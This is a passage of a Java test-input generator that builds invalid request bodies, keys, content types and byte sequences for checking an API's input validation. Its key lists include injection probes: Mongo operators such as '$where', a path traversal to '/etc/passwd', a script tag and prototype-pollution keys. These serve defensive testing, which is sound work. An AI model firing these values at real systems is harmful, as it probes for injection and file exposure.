            fewer.remove(entries.keySet().iterator().next());
            bad.add(named("an entry left out", fewer));
          }
          Map<String, Object> huge = new LinkedHashMap<>();
          for (int i = 0; i < HUGE_ARRAY; i++) {
            huge.put("k" + i, value);
          }
          bad.add(named(HUGE_ARRAY + " entries", huge));
        }
        case OBJECT -> {}
      }
      return bad;
    }

    private List<Named> outOfRange(String field, boolean whole) {
      List<Named> bad = new ArrayList<>();
      Number[] range = ranges.get(field);
      if (range != null) {
        if (whole) {
          bad.add(named("below the minimum", range[0].longValue() - 1));
          bad.add(named("above the maximum", range[1].longValue() + 1));
        } else {
          BigDecimal half = new BigDecimal("0.5");
          bad.add(named("below the minimum", new BigDecimal(range[0].toString()).subtract(half)));
          bad.add(named("above the maximum", new BigDecimal(range[1].toString()).add(half)));
        }
      }
      if (positive.contains(field)) {
        bad.add(named("zero", 0));
      }
      if (!signed.contains(field)) {
        bad.add(named("negative", whole ? -1 : new BigDecimal("-0.5")));
      }
      return bad;
    }

    private static List<Named> blanks() {
      return List.of(
          named("empty text", ""),
          named("spaces", "   "),
          named("tabs and newlines", "\t\r\n"),
          named("Unicode spaces", "\u2003\u3000\u2029"));
    }

    private static List<Named> badKeys() {
      return List.of(
          named("unknown", "not-a-known-key"),
          named("$gt (a Mongo operator)", "$gt"),
          named("$where (a Mongo operator)", "$where"),
          named("with a dot", "a.b"),
          named("empty", ""),
          named("with a NUL", "a\u0000b"),
          named("path traversal", "../../etc/passwd"),
          named("script injection", "<script>alert(1)</script>"),
          named("__proto__", "__proto__"),
          named(LONG_TEXT + " characters", "k".repeat(LONG_TEXT)));
    }

    private static List<Named> unknownFields(Map<String, Object> object) {
      List<Named> fields = new ArrayList<>();
      for (String name :
          List.of(
              "unexpected",
              "$where",
              "$set",
              "a.b",
              "__proto__",
              "constructor",
              "_id",
              "_class",
              "id",
              "version",
              "status",
              "createdAt")) {
        if (!object.containsKey(name)) {
          fields.add(named("unknown field " + name, name));
        }
      }
      return fields;
    }

    private void rootMutations(List<Mutation> out) {
      for (Named extra : unknownFields(example)) {
        out.add(new Mutation("(body) " + extra.name(), List.of(extra.value()), "unexpected"));
      }
      out.add(new Mutation("(body) an array of the body", List.of(), List.of(example)));
      if (!optional.containsAll(example.keySet())) {
        out.add(new Mutation("(body) empty object", List.of(), Map.of()));
      }
      out.add(new Mutation("(body) JSON text", List.of(), "text"));
      out.add(new Mutation("(body) JSON number", List.of(), 42));
      out.add(new Mutation("(body) JSON boolean", List.of(), true));
      if (!bodyOptional) {
        out.add(new Mutation("(body) JSON null", List.of(), null));
      }
    }

    private void bodyLevelCases(List<Case> cases) {
      byte[] valid = json(example);
      String text = new String(valid, StandardCharsets.UTF_8);
      if (!bodyOptional) {
        cases.add(bodyCase("(body) empty", new byte[0]));
        cases.add(bodyCase("(body) none, no Content-Type", null, null));
      }
      cases.add(bodyCase("(body) not JSON", utf8("this is not JSON")));
      cases.add(bodyCase("(body) truncated JSON", utf8(text.substring(0, text.length() / 2))));
      cases.add(
          bodyCase("(body) missing closing brace", utf8(text.substring(0, text.length() - 1))));
      cases.add(bodyCase("(body) trailing garbage", utf8(text + " garbage")));
      cases.add(bodyCase("(body) a second JSON object after it", utf8(text + text)));
      cases.add(bodyCase("(body) a comment", utf8("/* comment */" + text)));
      cases.add(bodyCase("(body) single quotes", utf8(text.replace('"', '\''))));
      cases.add(
          bodyCase("(body) trailing comma", utf8(text.substring(0, text.length() - 1) + ",}")));
      cases.add(bodyCase("(body) NaN literal", utf8("{\"value\": NaN}")));
      cases.add(bodyCase("(body) unquoted key", utf8("{value: 1}")));
      cases.add(bodyCase("(body) duplicate key", utf8(duplicateFirstKey(example, text))));
      cases.add(
          bodyCase(
              "(body) " + NESTING + " levels of nested arrays",
              utf8("[".repeat(NESTING) + "]".repeat(NESTING))));
      cases.add(
          bodyCase(
              "(body) " + NESTING + " levels of nested objects",
              utf8("{\"a\":".repeat(NESTING) + "1" + "}".repeat(NESTING))));
      cases.add(bodyCase("(body) a lone invalid byte", new byte[] {(byte) 0xff}));
      cases.add(bodyCase("(body) over the body size limit", utf8(" ".repeat(OVER_BODY_LIMIT))));
      List<Object> firstText = firstTextField(List.of(), example);
      if (firstText != null) {
        String label = label(firstText);
        String marked =
            new String(json(new Mutation("", firstText, BAD_BYTES_MARKER).apply(example)), UTF8);
        for (Named bytes : badUtf8()) {
          cases.add(
              bodyCase(
                  "(body) " + label + ": " + bytes.name(),
                  withBytes(marked, (byte[]) bytes.value())));
        }
      }
      cases.add(bodyCase("(content type) none", valid, null));
      for (String type :
          List.of(
              "text/plain",
              "text/html",
              "application/xml",
              "application/octet-stream",
              "application/javascript",
              "application/json; charset=not-a-charset",
              "not a media type",
              "application/json;;;=")) {
        cases.add(bodyCase("(content type) " + type, valid, type));
      }
      cases.add(
          bodyCase(
              "(content type) form",
              utf8("value=1&" + firstKey(text) + "=x"),
              "application/x-www-form-urlencoded"));
      String boundary = "bad-input-boundary";
      cases.add(
          bodyCase(
              "(content type) multipart",
              utf8(
                  "--"
                      + boundary
                      + "\r\nContent-Disposition: form-data; name=\"body\"\r\n"
                      + "Content-Type: application/json\r\n\r\n"
                      + text
                      + "\r\n--"
                      + boundary
                      + "--\r\n"),
              "multipart/form-data; boundary=" + boundary));
      cases.add(
          bodyCase(
              "(content type) malformed multipart",
              utf8("--" + boundary + "\r\nnot a part"),
              "multipart/form-data; boundary=" + boundary));
      cases.add(
          bodyCase("(content type) multipart without boundary", valid, "multipart/form-data"));
    }

    private static List<Named> badUtf8() {
      return List.of(
          named("invalid UTF-8 bytes", new byte[] {(byte) 0xff, (byte) 0xfe}),
          named("Latin-1 byte", new byte[] {'C', 'a', 'f', (byte) 0xe9}),
          named("overlong UTF-8 encoding of /", new byte[] {(byte) 0xc0, (byte) 0xaf}),
          named("UTF-8 encoded surrogate", new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}),
          named("truncated UTF-8 sequence", new byte[] {(byte) 0xe2, (byte) 0x82}),
          named("UTF-8 continuation byte alone", new byte[] {(byte) 0x80}),
          named(
              "UTF-8 beyond U+10FFFF",
              new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80}));
    }

    private List<Object> firstTextField(List<Object> at, Object value) {
      if (value instanceof Map<?, ?> object && !maps.contains(field(at))) {
        for (Map.Entry<?, ?> entry : object.entrySet()) {
          List<Object> found = firstTextField(append(at, entry.getKey()), entry.getValue());
          if (found != null) {
            return found;
          }
        }
      } else if (value instanceof String text
          && kindOf(field(at), text) == Kind.TEXT
          && !at.isEmpty()) {
        return at;
      }
      return null;
    }

    private static String field(List<Object> at) {
      StringBuilder field = new StringBuilder();
      for (Object step : at) {
        if (step instanceof Integer) {
          field.append("[]");
        } else {
          if (!field.isEmpty()) {
            field.append('.');
          }
          field.append(step);
        }
      }
      return field.toString();
    }
  }

  // ---- mutations

  private enum Kind {
    TEXT,
    FORMATTED,
    ENUM,
    UUID,
    INSTANT,
    INTEGER,
    DECIMAL,
    BOOLEAN,
    ARRAY,
    OBJECT,
    MAP
  }

  private record HeaderRule(String name, boolean required, List<String> malformed) {}

  private record Named(String name, Object value) {}

  private static Named named(String name, Object value) {
    return new Named(name, value);
  }

  /** Sets (or, with {@link #REMOVE}, removes) the value at a path of field names and indexes. */
  private record Mutation(String name, List<Object> at, Object value) {

    static final Object REMOVE = new Object();

    Object apply(Map<String, Object> body) {
      if (at.isEmpty()) {
        return value;
      }
      Object root = copy(body);
      Object parent = root;
      for (int i = 0; i < at.size() - 1; i++) {
        parent = step(parent, at.get(i));
      }
      Object last = at.getLast();
      if (parent instanceof Map<?, ?> map) {
        @SuppressWarnings("unchecked")
        Map<Object, Object> object = (Map<Object, Object>) map;
        if (value == REMOVE) {
          object.remove(last);
        } else {
          object.put(last, value);
        }
      } else {
        @SuppressWarnings("unchecked")
        List<Object> list = (List<Object>) parent;
        list.set((Integer) last, value);
      }
      return root;
    }

    private static Object step(Object parent, Object key) {
      return parent instanceof Map<?, ?> map ? map.get(key) : ((List<?>) parent).get((Integer) key);
    }

    private static Object copy(Object value) {
      if (value instanceof Map<?, ?> map) {
        Map<Object, Object> copy = new LinkedHashMap<>();
        map.forEach((k, v) -> copy.put(k, copy(v)));
        return copy;
      }
      if (value instanceof List<?> list) {
        List<Object> copy = new ArrayList<>();
        list.forEach(v -> copy.add(copy(v)));
        return copy;
      }
      return value;
    }
  }

  private static String label(List<Object> at) {
    StringBuilder label = new StringBuilder();
    for (Object step : at) {
      if (step instanceof Integer index) {
        label.append('[').append(index).append(']');
      } else {
        if (!label.isEmpty()) {
          label.append('.');
        }
        label.append(step);
      }
    }
    return label.toString();
  }

  private static List<Object> append(List<Object> at, Object step) {
    List<Object> longer = new ArrayList<>(at);
    longer.add(step);
    return List.copyOf(longer);
  }

  private static Map<String, Object> object(String key, Object value) {
    Map<String, Object> map = new LinkedHashMap<>();
    map.put(key, value);
    return map;
  }

  /**
   * A copy in which every map keeps a fixed key order: its own where it has one ({@code
   * LinkedHashMap}, {@code SortedMap}), else sorted, since {@code Map.of} iterates in an order that
   * changes from one JVM to the next.
   */
  @SuppressWarnings("unchecked")
  private static Object ordered(Object value) {
    if (value instanceof Map<?, ?> map) {
      Map<Object, Object> source =
          map instanceof LinkedHashMap<?, ?> || map instanceof SortedMap<?, ?>
              ? (Map<Object, Object>) map
              : new TreeMap<>(map);
      Map<String, Object> copy = new LinkedHashMap<>();
      source.forEach((k, v) -> copy.put(String.valueOf(k), ordered(v)));
      return copy;
    }
    if (value instanceof List<?> list) {
      List<Object> copy = new ArrayList<>();
      list.forEach(v -> copy.add(ordered(v)));
      return copy;
    }
    return value;
  }

  private static Object nestedArrays(int depth) {
    return new Raw("[".repeat(depth) + "]".repeat(depth));
  }

  private static boolean isInstant(String text) {
    try {
      Instant.parse(text);
      return true;
    } catch (DateTimeParseException e) {
      return false;
    }
  }

  private static String describe(String value) {
    String shown =
        value.length() > 40 ? value.substring(0, 40) + "… (" + value.length() + ")" : value;
    return shown.isEmpty() ? "empty" : shown;
  }

  // ---- JSON, written here so that every byte is ours to choose

  private static final java.nio.charset.Charset UTF8 = StandardCharsets.UTF_8;

  private static byte[] utf8(String text) {
    return text.getBytes(UTF8);
  }

  static byte[] json(Object value) {
    StringBuilder out = new StringBuilder();
    write(out, value);
    return utf8(out.toString());
  }

  private static void write(StringBuilder out, Object value) {
    switch (value) {
      case null -> out.append("null");
      case Raw raw -> out.append(raw.json());
      case Map<?, ?> map -> {
        out.append('{');
        boolean first = true;
        for (Map.Entry<?, ?> entry : map.entrySet()) {
          if (!first) {
            out.append(',');
          }
          first = false;
          writeString(out, String.valueOf(entry.getKey()));
          out.append(':');
          write(out, entry.getValue());
        }
        out.append('}');
      }
      case List<?> list -> {
        out.append('[');
        for (int i = 0; i < list.size(); i++) {
          if (i > 0) {
            out.append(',');
          }
          write(out, list.get(i));
        }
        out.append(']');
      }
      case BigDecimal decimal -> out.append(decimal.toPlainString());
      case Number number -> out.append(number);
      case Boolean bool -> out.append(bool);
      default -> writeString(out, String.valueOf(value));
    }
  }

  private static void writeString(StringBuilder out, String text) {
    out.append('"');
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    out.append('"');
  }

  /** The body with its first field given twice, the same value both times. */
  private static String duplicateFirstKey(Map<String, Object> example, String json) {
    if (example.isEmpty()) {
      return json;
    }
    Map.Entry<String, Object> first = example.entrySet().iterator().next();
    StringBuilder twice = new StringBuilder("{");
    writeString(twice, first.getKey());
    twice.append(':');
    write(twice, first.getValue());
    return twice.append(',').append(json.substring(1)).toString();
  }

  private static String firstKey(String json) {
    int start = json.indexOf('"');
    return json.substring(start + 1, json.indexOf('"', start + 1));
  }

  private static byte[] withBytes(String marked, byte[] bytes) {
    byte[] text = utf8(marked);
    byte[] marker = utf8(BAD_BYTES_MARKER);
    int at = indexOf(text, marker);
    byte[] out = new byte[text.length - marker.length + bytes.length];
    System.arraycopy(text, 0, out, 0, at);
    System.arraycopy(bytes, 0, out, at, bytes.length);
    System.arraycopy(
        text, at + marker.length, out, at + bytes.length, text.length - at - marker.length);
    return out;
  }

  private static int indexOf(byte[] haystack, byte[] needle) {
    outer:
    for (int i = 0; i <= haystack.length - needle.length; i++) {
      for (int j = 0; j < needle.length; j++) {
        if (haystack[i + j] != needle[j]) {
          continue outer;
        }
      }
      return i;
    }
    throw new IllegalArgumentException("marker not found");
  }
}
